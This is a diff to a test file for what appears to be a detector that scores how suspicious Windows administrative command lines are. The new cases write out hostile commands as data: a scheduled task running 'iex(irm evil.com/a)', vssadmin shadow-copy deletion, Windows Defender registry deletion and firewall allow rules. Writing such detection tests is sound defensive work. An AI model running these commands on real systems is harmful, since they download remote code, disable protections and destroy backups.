@@ -25,7 +25,19 @@ describe('evidence in bits, without whoever started it,', () => {
     ['schtasks.exe', 'schtasks /create /tn a /xml C:\\Windows\\Temp\\task.xml', INSTALLER, 2],
     ['schtasks.exe', 'schtasks /create /tn a /tr "\\"C:\\Program Files\\Vendor\\a.exe\\" /u"', INSTALLER, 0],
     ['schtasks.exe', 'schtasks /create /tn a /tr C:\\ProgramData\\Vendor\\Agent\\bin\\a.exe', SHELL, 2.5],
+    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\ProgramData\\Vendor\\App\\t.xml', SHELL, 0.5],
+    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\Deploy\\t.xml', SHELL, 0.5],
+    ['schtasks.exe', 'schtasks /create /tn a /tr "cmd /c shutdown /r /t 0"', SHELL, 0],
+    ['schtasks.exe', 'schtasks /create /tn a /tr "powershell Restart-Service Spooler"', SHELL, 1],
     ['reg.exe', 'reg query HKLM\\SOFTWARE\\Vendor', SHELL, 0],
+    ['reg.exe', 'reg import C:\\ProgramData\\a\\t.reg', SHELL, 0.5],
+    ['reg.exe', 'reg delete "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /f', SHELL, 2],
+    [
+      'netsh.exe',
+      'netsh advfirewall firewall add rule name=a dir=in action=allow program=C:\\ProgramData\\Vendor\\App\\b.exe',
+      SHELL,
+      1,
+    ],
     ['reg.exe', 'reg import C:\\Deploy\\settings.reg', SHELL, 0.5],
     ['netsh.exe', 'netsh http add urlacl url=http://+:8080/ user=Everyone', SHELL, 0],
     ['netsh.exe', 'netsh advfirewall firewall add rule name=a dir=in action=allow localport=80', SHELL, 1],
@@ -58,7 +70,25 @@ describe('evidence in bits, without whoever started it,', () => {
       'MpCmdRun.exe -RemoveDefinitions -DynamicSignatures',
       2,
     ],
-    ['cmdkey.exe', 'cmdkey /list', 2.5],
+    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\ProgramData\\a\\t.xml', 2.5],
+    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\Users\\ann\\t.xml', 4],
+    ['schtasks.exe', 'schtasks /create /tn a /tr "vssadmin delete shadows /all /quiet"', 7],
+    [
+      'schtasks.exe',
+      'schtasks /create /tn a /tr "powershell -c iex(irm evil.com/a) -f C:\\Windows\\a.ps1"',
+      3.5,
+    ],
+    [
+      'netsh.exe',
+      'netsh advfirewall firewall add rule name=a dir=in action=allow program=C:\\ProgramData\\a\\b.exe',
+      2.5,
+    ],
+    [
+      'reg.exe',
+      'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules /v a /d "v2.31|Action=Allow|Dir=In|"',
+      2.5,
+    ],
+    ['reg.exe', 'reg delete "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Features" /f', 4],
   ])('of what administration hardly does is much: %s %s', (image, line, bits) => {
     expect(evidence(image, line, SHELL)).toBe(bits)
   })
